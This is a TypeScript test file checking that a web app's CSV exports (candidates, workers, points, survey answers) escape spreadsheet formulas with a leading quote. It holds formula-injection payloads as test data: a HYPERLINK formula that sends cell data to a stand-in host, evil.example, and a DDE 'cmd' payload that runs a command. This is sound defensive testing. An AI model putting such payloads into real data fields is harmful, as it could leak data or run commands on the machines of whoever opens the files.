/**
 * CSV exports never hand a spreadsheet a formula: a person's name, a point entry's reason or a
 * survey answer typed as `=HYPERLINK(…)`, `+…`, `-…` or `@…` comes out of every export (candidates,
 * workers, points, survey answers) as text, with a leading `'`; plain negative numbers stay numbers.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sql } from 'kysely';
import { startTestApp, type TestApp } from '../helpers/app.ts';
import { postPoints } from '../../server/modules/points/ledger.ts';
import { companyOf } from '../helpers/demo-data.ts';
import { parseCsv } from '../helpers/csv.ts';

let t: TestApp;
const db = () => t.database.db;

const NAME = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
const REASON = "+cmd|' /C calc'!A0";
const ANSWER = '@SUM(1+1)*cmd';

async function exportOf(path: string): Promise<string[][]> {
  const res = await fetch(`${t.url}${path}`, { headers: { cookie: `token=${await t.tokenOf('company_admin')}`, 'accept-language': 'en' } });
  expect(res.status).toBe(200);
  expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
  return parseCsv(await res.text());
}

const cells = (rows: string[][]) => rows.flat();

beforeAll(async () => {
  t = await startTestApp();
  // People who typed a formula as their name, a reason and an answer that are formulas.
  await db()
    .updateTable('users')
    .set({ name: sql<string>`${NAME} || ' ' || left(id::text, 4)` })
    .where('role', '=', 'candidate')
    .execute();
  // Point entries are append-only: a company adds points with the reason, and takes some back.
  const company = await companyOf(t, 'company@demo.test');
  const person = (await db().selectFrom('point_entries').select('candidate_id').where('company_id', '=', company).executeTakeFirstOrThrow()).candidate_id;
  const actor = { id: null, name: 'test' };
  expect((await postPoints(db(), actor, { candidateId: person, companyId: company, delta: 30, kind: 'manual', reason: REASON })).ok).toBe(true);
  expect((await postPoints(db(), actor, { candidateId: person, companyId: company, delta: -25, kind: 'spend', reason: '-2+3' })).ok).toBe(true);
  await db().updateTable('survey_answers').set({ text: ANSWER }).where('text', 'is not', null).execute();
});
afterAll(async () => t?.close());

describe('CSV exports write formulas as text', () => {
  it.each([
    ['candidates', '/admin/candidate?format=csv'],
    ['workers', '/admin/worker?format=csv'],
    ['points', '/v3/admin/point?format=csv'],
  ])('%s: a name that is a formula comes out with a leading quote', async (_, path) => {
    const rows = await exportOf(path);
    const names = cells(rows.slice(1)).filter((c) => c.includes('HYPERLINK'));
    expect(names.length).toBeGreaterThan(0);
    for (const c of names) expect(c.startsWith(`'${NAME}`)).toBe(true);
    for (const c of cells(rows)) expect(c).not.toMatch(/^[=+@\t\r]/);
  });

  it('points: a reason that is a formula is text, and a deduction stays a negative number', async () => {
    const rows = await exportOf('/v3/admin/point?format=csv');
    const header = rows[0]!;
    const reason = header.indexOf('Reason');
    const points = header.indexOf('Points');
    expect(rows.slice(1).map((r) => r[reason])).toContain(`'${REASON}`);
    const deduction = rows.find((r) => r[reason] === "'-2+3")!;
    expect(deduction).toBeDefined();
    expect(deduction[points]).toMatch(/^-25$/);
  });

  it('survey answers: a text answer that is a formula is text', async () => {
    const company = await companyOf(t, 'company@demo.test');
    const survey = await db().selectFrom('surveys').select('id').where('company_id', '=', company).executeTakeFirstOrThrow();
    const rows = await exportOf(`/v3/admin/survey?answers=${survey.id}`);
    expect(cells(rows)).toContain(`'${ANSWER}`);
    expect(cells(rows).filter((c) => c.startsWith(`'${NAME}`)).length).toBeGreaterThan(0);
    for (const c of cells(rows)) expect(c).not.toMatch(/^[=+@\t\r]/);
  });
});
